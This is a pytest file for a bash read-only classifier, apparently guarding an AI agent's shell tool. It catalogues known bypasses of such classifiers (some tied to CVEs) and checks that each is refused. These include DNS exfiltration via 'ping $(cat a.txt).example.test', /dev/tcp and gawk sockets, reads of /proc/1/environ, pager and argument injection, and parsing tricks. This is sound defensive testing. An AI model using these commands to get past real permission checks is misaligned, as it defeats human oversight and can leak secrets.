"""Each way in which a classifier of this kind is known to have been bypassed, and misread forms."""

from __future__ import annotations

import pytest

from sandboxed_tools.bash import classify, split_commands


@pytest.mark.parametrize(
    ("source", "command"),
    [
        ("CVE-2025-54795", 'echo "a\\"; touch x; echo \\"b"; touch x'),
        ("CVE-2025-55284", "ping -c1 $(cat a.txt).example.test"),
        ("CVE-2025-55284", "dig @127.0.0.1 example.test"),
        ("CVE-2025-59828", "yarn --version"),
        ("CVE-2025-58764", "rg foo --pre=./x.sh"),
        ("CVE-2025-66032", "man --html=touch ls"),
        ("CVE-2025-66032", "sort --compress-program=./x.sh a.txt"),
        ("CVE-2025-66032", "history -s x; history -a ~/.bashrc"),
        ("CVE-2025-66032", "git ls-remote --upload-pa=touch ."),
        ("CVE-2025-66032", "sed s/x/touch/e a.txt"),
        ("CVE-2025-66032", "echo x | xargs -t touch echo"),
        ("CVE-2025-66032", "rg foo$IFS--pre=sh"),
        ("CVE-2025-66032", 'echo ${one="$"}${two="$one(touch x)"}${two@P}'),
        ("CVE-2025-64755", "sed -n '1,1w/tmp/x' a.txt"),
        ("CVE-2026-24887", "find . -'exec' touch x \\;"),
        ("CVE-2026-24053", "ls >| x"),
        ("CVE-2026-25722", "cd src && echo x > a"),
        ("CVE-2026-25723", "echo x | sed 'w x'"),
        ("limits that fail open", "; ".join(["ls"] * 60) + "; touch x"),
        ("argument injection", "go test -exec ./x.sh"),
        ("argument injection", "git show --output=x"),
        ("argument injection", "fd -x touch"),
        ("word values", "find . \\-delete"),
        ("word values", 'find . "-dele\\\nte"'),
        ("word values", "find . -del\\\nete"),
        ("word values", "find . -{print,delete}"),
        ("file names", "find -d*"),
        ("file names", "rg foo *"),
        ("file names", "sort *"),
        ("base names", "./evilbin/ls"),
        ("second operand", "uniq in out"),
        # Newer versions of tree take only the digits for the level, and -o for an option.
        ("options after digits", 'x=o; tree -L1"$x" out'),
        ("options after digits", "x=o; tree -L1$x out"),
        ("options after digits", "echo o | xargs -I{} tree -L1{} out"),
        ("truncation that looks like a comparison", "[ a > b ]"),
        ("here-document body", "cat <<E\n`touch x`\nE"),
        ("assignment in an expansion", "echo ${x:=`touch x`}"),
        ("nested backquotes", "echo `echo \\`touch x\\``"),
        ("continued command name", "to\\\nuch x"),
        ("command name from braces", "{touch,x}"),
        ("carriage return", "ls\r-la; touch x"),
        ("time before a group", "time { touch x; }"),
        ("coprocess", "coproc X { touch x; }"),
        ("continued assignment", "a=b\\\nc touch x"),
        ("arithmetic that evaluates a value", "x='a[$(touch x)]'; echo $((x))"),
        ("conditional that evaluates a value", "[[ 'a[$(touch x)]' -eq 1 ]]"),
        ("conditional that evaluates a subscript", "[[ -v a[$(touch x)] ]]"),
        ("test that evaluates a subscript", "test -v 'a[$(touch x)]'"),
        ("printf that sets a variable", "printf '%s%n' abcd PATH; cat a.txt"),
        ("jobs that runs a program", "jobs -x touch x"),
        ("wait that evaluates a subscript", "wait -p 'a[$(touch x)]' -n"),
        ("getconf that runs a program", "getconf -v ../../x PATH"),
        ("clustered option with a value", "xxd -pl 3 a.txt x"),
        ("clustered option with a value", "tree -Lo 1 x"),
        ("file name that names a host", "tar tf host:x.tar"),
        ("file name that opens a socket", "gawk 1 /inet/tcp/0/127.0.0.1/9"),
        ("file name that opens a socket", "cat < /dev/tcp/127.0.0.1/9"),
        ("file that holds options", "nm @opts"),
        ("clock", "date 010100002020"),
        ("setting without an option", "sysctl kernel.x=1"),
        ("division or regular expression", 'awk \'{(x)/ " / ;system("touch x");y=/ " /}\' a'),
        ("delimiter inside brackets", "sed 's/[/]/x/w x' a.txt"),
        ("both of -I and -n", "echo -o | xargs -I{} -n1 sort a.txt"),
        ("program chosen by the workspace", "cargo --version"),
        ("program chosen by the workspace", "python3 -m json.tool a.json"),
        ("program chosen by the workspace", "make -n"),
        # bash ends such a text right after its delimiter and runs the rest of the line.
        ("here-document in a substitution", "echo $(cat <<E\nx\nE touch y)\nE\n)"),
        ("here-document in a substitution", "echo \"$(cat <<'E'\nx\nEtouch y)\nE\n)\""),
        ("here-document in a substitution", "cat <(cat <<-E\n\tx\n\tE touch y)\n\tE\n)"),
        ("here-document in a substitution", "echo $( (cat <<E\nx\nE touch y)\nE\n) )"),
        ("code from standard input", 'echo \'open("x", "w")\' | python3 -v'),
        ("code from standard input", "python -v < x.py"),
        ("code from standard input", "ls | xargs python3 -v"),
        # In Big5 the last byte of this character and the sign after it are one character.
        ("delimiter inside a character", "LC_ALL=zh_TW.BIG5 sed 's|あ|x|;s|w y|z|' a.txt"),
        ("delimiter inside a character", "env LANG=zh_CN.GBK sed 's|あ|x|;s|w y|z|' a.txt"),
        ("delimiter inside a character", "export LC_CTYPE=ja_JP.SJIS; sed 's|あ|x|;s|w y|z|' a"),
        ("delimiter inside a character", "LC_ALL=zh_TW sed 's|あ|x|;s|w y|z|' a.txt"),
        ("variable that read sets unnamed", 'REPLY=a; read <<< -delete; find . "$REPLY"'),
        ("variable that read sets unnamed", 'for REPLY in a; do read -r <b; sort "$REPLY"; done'),
        ("format that runs gpg", 'f=%G?; git log --format="$f"'),
        ("format that runs gpg", "echo %G? | xargs -I{} git log --pretty=format:{}"),
        ("format that runs gpg", 'git for-each-ref --format="$x"'),
        ("time stamps that are put back", "file -p a.txt"),
        ("time stamps that are put back", "file -bp a.txt"),
        ("socket behind an empty variable", 'x=; gawk 1 "$x/inet/tcp/0/127.0.0.1/9"'),
        ("socket behind an empty variable", "x=; find . -exec awk 1 {} \"$x\"/inet/'$y' \\;"),
        ("socket behind an empty variable", 'for d in a; do awk 1 "$d/$y"; done'),
        ("other processes by another way", 'x=; cd "$x/proc/1" && cat environ'),
        ("other processes by another way", "cd ../../proc/1; cat environ"),
        ("other processes by another way", "pushd //proc/1 && cat environ"),
        ("unquoted variable", "x=-delete; find $x"),
        ("unquoted variable", "x='a -delete'; find $x"),
        ("unquoted variable", "x=a; find $x-delete $x$x"),
        ("unquoted variable", "x=a; x=$(cat b); find $x"),
        ("unquoted variable", "for x in src/*; do find $x; done"),
        ("unquoted variable", "for x in a -delete; do find $x; done"),
        ("unquoted variable", "x=a; read x <<< -delete; find $x"),
        ("unquoted variable", "REPLY=a; read <<< -delete; find $REPLY"),
        # It may be empty, and then it is no word at all.
        ("unquoted variable that vanishes", "x=; rg -e $x -e --pre=sh"),
        ("unquoted variable that vanishes", "x=; sort -k $x -o"),
        ("unquoted variable that vanishes", "x=; uniq $x a.txt"),
        ("unquoted variable that vanishes", "x=; sed $x 'w y'"),
        ("unquoted variable that vanishes", "x=; find . -name $x -delete"),
        ("unquoted variable that vanishes", "x=; env $x touch y"),
        ("unquoted variable that vanishes", "x=; git branch --contains $x y"),
        ("unquoted variable that vanishes", "x=; [ -f $x ] && ls"),
        ("unquoted variable that vanishes", "x=; gawk 1 $x/inet/tcp/0/127.0.0.1/9"),
        ("unquoted variable that vanishes", "x=; less $x+!touch"),
        ("pager by another name", "PAGER='sh x' git log"),
        ("pager by another name", "GIT_PAGER=./cat git log"),
        ("another repository", "git -C .. log"),
        ("another repository", "git -C /x log"),
        ("another repository", "git -C src/../.. log"),
        ("another repository", 'git -C "$x" log'),
        ("another repository", "git -C -p log"),
        ("time zone from a file", "TZ=/tmp/x date"),
        ("git that writes the index", "git describe --dirty"),
        ("git that writes the index", "git describe --always --dirty=-x"),
        ("git that writes objects", "git show --diff-merges=remerge"),
        ("git that writes objects", "git log -1 --diff-merges=r"),
        ("git that writes objects", "git log --remerge-diff"),
        # 2.46 and later refresh the index first.
        ("git that writes the index", "git describe --always --broken"),
        ("git that writes the index", "git describe --broken=-x"),
        ("git that runs man", "git log --help"),
        ("git that runs man", "git tag --list --help"),
        ("git in the home directory", "cd && git log"),
        ("git in the home directory", "cd; git status"),
        ("git in the home directory", "pushd '~'/x; git status"),
        # sed compiles what -e gives at once: the file is open before the version is told.
        ("script before the option that forbids it", "sed -e 'w x' --version"),
        ("script before the option that forbids it", "sed -e 'w x' --help a.txt"),
        ("script before the option that forbids it", "sed -n -e '1e touch x' --sandbox a.txt"),
        ("script before the option that forbids it", "sed --expression='w x' --sandbox a.txt"),
        # In gawk and mawk the regular expression goes on to the bracket inside the "string".
        ("slash in brackets", 'awk -v c="touch x" \'/[[:alpha:]/ ~ "]/ && system(c) #"\' a.txt'),
        ("slash in brackets", 'awk -v c="touch x" \'/[^a[:alpha:]/ ~ "]/ || system(c) #"\' a'),
        ("slash in brackets", 'awk -v c="touch x" \'/[]/ ~ "]/ || system(c) #"\' a.txt'),
        ("slash in brackets", 'awk -v c="touch x" \'/[^]/ ~ "]/ || system(c) #"\' a.txt'),
        ("slash in brackets", 'awk -v c="touch x" \'/[[.a.]/ ~ "]/ || system(c) #"\' a.txt'),
        # They tell their version, and go on with what else they are given.
        ("version and then the rest", "bzip2 --version a.txt"),
        ("version and then the rest", "bunzip2 --help a.bz2"),
        ("version and then the rest", "xmllint --version http://127.0.0.1/x"),
        ("device behind an empty variable", "x=; cat $x/dev/watchdog"),
        ("device behind an empty variable", 'head -c1 "$x$y/dev/sda"'),
        ("device by a pattern", "cat /d?v/watchdog"),
        ("device by a pattern", "shopt -s nocaseglob; cat /DE[v]/watchdog"),
        ("device by a pattern", "cat ../../*/watchdog"),
        ("other processes by a pattern", "cat /pr?c/1/environ"),
        # gawk reads the digits of a hexadecimal number as far as they go.
        ("word joined with a number", "awk 'BEGIN {0xagetline < \"/inet/tcp/0/127.0.0.1/9\"}'"),
        ("word joined with a number", "gawk '{x = 0Xfgetline} 1' a.txt"),
        ("empty argument", "hostname ''"),
        ("empty argument", 'umask ""'),
        # ps reads its options once more, as BSD's, where they are none of its own.
        ("environments of other processes", "ps -auxe"),
        ("environments of other processes", "ps -auxeww | head"),
        ("environments of other processes", "ps -ex"),
        ("environments of other processes", "ps -axe -o args"),
        ("environments of other processes", "ps -eo args -x"),
        ("environments of other processes", "ps -a -x -e"),
        ("environments of other processes", "ps -eO +pid"),
        ("environments of other processes", "ps -ef -o args"),
        ("environments of other processes", "ps -e -u nobody-there"),
        ("list that limits the load", "bzip2 -l a.txt"),
        ("device", "bc /dev/watchdog"),
        ("device", "users /dev/watchdog"),
        ("device", "pgrep -F /dev/watchdog"),
        ("device", "pgrep -f --pidfile /dev/watchdog"),
    ],
)
def test_a_known_way_around_a_classifier_is_refused(source: str, command: str) -> None:
    assert not classify(command, trusted_workspace=True).read_only, source


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("l\\s", ("ls",)),
        ("cat \"a b\" 'c'd", ("cat", "a b", "cd")),
        ('echo "a\\"b\\c"', ("echo", 'a"b\\c')),
        ("echo $'a\\tb'", ("echo", "a\tb")),
        ("echo {a,b}{1..2}", ("echo", "a1", "a2", "b1", "b2")),
        ("echo {a,{b,c}}d x{,y}", ("echo", "ad", "bd", "cd", "x", "xy")),
        ("echo {} {a} '{a,b}' {\"a,b\",c}", ("echo", "{}", "{a}", "{a,b}", "a,b", "c")),
        ("echo {03..5} {c..a} {5..1..2}", ("echo", "03", "04", "05", "c", "b", "a", "5", "3", "1")),
        ("echo a#b #c", ("echo", "a#b")),
        ("ls \\\n -la", ("ls", "-la")),
        ('echo $x "$x" a*', ("echo", None, None, None)),
        ("echo ''", ("echo", "")),
        ("echo a[ ] [b", ("echo", "a[", "]", "[b")),
        ("echo \\~ '~' a~", ("echo", "~", "~", "a~")),
        ("echo ~ ~/x", ("echo", None, None)),
        ("X=1 cat <a.txt 2>/dev/null b", ("cat", "b")),
    ],
)
def test_words_are_what_bash_makes_of_them(command: str, argv: tuple[str | None, ...]) -> None:
    (only,) = split_commands(command) or ()
    assert only.argv == argv


@pytest.mark.parametrize(
    "command",
    [
        "echo $(cat <<E\nx E)\nE\n)",
        "cat <<E\nx\nE touch y)\nE",
        "LC_ALL=en_US.UTF-8 ls",
        "LANG=C.utf8 LC_ALL= sort a.txt",
        "TZ=Europe/Berlin date",
        "python3 -VV",
        "DIR=src; find $DIR -name '*.py' | wc -l",
        "for d in src tests; do find ${d}/sub -type f; done",
        "for f in a.py b.py; do sed -n '1,5p' $f; grep -c foo src/$f; done",
        "F=a.txt; sort $F; uniq -- x$F",
        "GIT_PAGER=cat PAGER=cat git log -3",
        "GIT_OPTIONAL_LOCKS=0 git status",
        "git -C src log --oneline",
        'for d in src docs; do awk 1 "$d/a.txt"; done',
        "cd dev && ls",
        'while read -r; do echo "$REPLY"; done < a.txt',
        'git log --author="$x" --format=%h',
        "node -v",
        "git describe --tags --always",
        "cd src && git log -3",
        "sed --version",
        "sed --sandbox -e 'b end; :end' a.txt",
        "sed 's/a/b/' --sandbox a.txt",
        "awk '/^[^#[:space:]][[:alnum:]_]*=/ {print $1}' a.txt",
        "awk '/[]a]/ || /[^]b]/ {n++} END {print n}' a.txt",
        "bzip2 --version && xz --version && xmllint --version",
        "echo '1+1' | bc -l; pgrep -fa /usr/bin/python3; users; uptime",
        'for d in src; do cat "$d"/*/x.txt; done; cat */dev.txt',
        "grep -r foo /usr/*/doc",
        "awk '{n += 0 * x0x + 10 x} END {print n $1}' a.txt",
        "hostname; hostname -s; umask",
        "ps -aux; ps -ef --forest; ps -eLf; ps -e -o pid,comm --sort=-rss | head",
        "ps -eo pid,args --no-headers; ps -C node -o etime; ps -u nobody; ps -oetime -p1",
        "bzip2 -tv a.bz2; gzip -l a.gz",
    ],
)
def test_the_harmless_neighbour_of_such_a_way_is_read_only(command: str) -> None:
    assert classify(command, trusted_workspace=True).read_only


def test_every_command_is_found_inside_substitutions_and_compound_commands() -> None:
    text = 'if a; then b | c "$(d)"; else for x in `e`; do f <(g); done; fi'
    text += '; case "$(h)" in i) j;; esac'
    found = split_commands(text) or ()
    assert sorted(str(command.argv[0]) for command in found) == list("abcdefghj")
    assert all(text[c.start : c.end].startswith(str(c.argv[0])) for c in found)


def test_a_verdict_names_each_part_and_points_at_what_is_wrong() -> None:
    text = "ls -la && sort -o x a.txt | head > y"
    verdict = classify(text)
    assert [text[p.start : p.end] for p in verdict.parts] == [
        "ls -la",
        "sort -o x a.txt",
        "head > y",
    ]
    assert [p.read_only for p in verdict.parts] == [True, False, False]
    assert [(r.code, text[r.start : r.end]) for r in verdict.reasons] == [
        ("option", "-o"),
        ("redirect", "> y"),
    ]
